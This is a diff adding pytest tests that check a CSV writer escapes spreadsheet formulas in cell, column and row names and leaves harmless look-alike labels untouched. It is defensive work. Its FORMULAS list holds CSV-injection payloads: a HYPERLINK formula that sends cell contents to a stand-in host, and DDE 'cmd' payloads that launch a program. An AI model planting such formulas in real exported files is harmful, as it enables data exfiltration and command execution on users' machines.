@@ -1,0 +1,69 @@
+"""CSV files: names that a spreadsheet would execute, and names that only look like it."""
+
+from __future__ import annotations
+
+import logging
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from jind_nb.core.csv_files import as_it_was, write_csv
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/"&A1)', "@SUM(A1)", "=1+1", "\t=1", "\r=1", "+SUM(1)", "-2+3+cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+]  # fmt: skip
+HARMLESS = [
+    "+",
+    "-",
+    "-1",
+    "+1",
+    "-AAACCTGAG-1",
+    "CD4+ T",
+    "+CD4 T",
+    "- not labelled (B)",
+    "a=b",
+    "user@host",
+    "",
+    "'",
+    "T|B!",
+]
+
+
+def written(tmp_path: Path, values: list[str], **options: bool) -> pd.DataFrame:
+    table = pd.DataFrame({"name": values, "n": range(len(values))})
+    write_csv(tmp_path / "table.csv", table, **options)
+    return pd.read_csv(tmp_path / "table.csv", dtype={"name": str}, keep_default_na=False)
+
+
+@pytest.mark.parametrize("categorical", [False, True])
+def test_formulas_are_text_and_the_log_says_so(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, categorical: bool
+) -> None:
+    """Lost otherwise: what is in the sheet, to an address that a cell type's name holds; or a changed name, unnoticed."""
+    table = pd.DataFrame({"name": pd.Categorical(FORMULAS) if categorical else FORMULAS})
+    with caplog.at_level(logging.WARNING):
+        write_csv(tmp_path / "table.csv", table)
+    found = pd.read_csv(tmp_path / "table.csv", dtype=str, keep_default_na=False)["name"].tolist()
+    assert found == [f"'{value}" for value in FORMULAS]
+    assert [as_it_was(value) for value in found] == FORMULAS
+    for value in FORMULAS:
+        assert f"table.csv: {value!r} stands there" in caplog.text
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_names_that_merely_look_like_it_stay_exact(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, value: str
+) -> None:
+    """Lost otherwise: the join with the user's own table, by a barcode or a label that was changed."""
+    assert written(tmp_path, [value, "B"])["name"].tolist() == [value, "B"]
+    assert caplog.text == ""
+
+
+def test_names_of_columns_and_rows_are_text_too(tmp_path: Path) -> None:
+    """Lost otherwise: the same, where types are columns and cells are rows."""
+    table = pd.DataFrame({"@SUM(A1)": [0.5]}, index=pd.Index(["=1+1"], name="cellname"))
+    write_csv(tmp_path / "table.csv", table, index=True)
+    assert (tmp_path / "table.csv").read_text() == "cellname,'@SUM(A1)\n'=1+1,0.5\n"
+    assert list(table.columns) == ["@SUM(A1)"]  # the caller's own is as it was
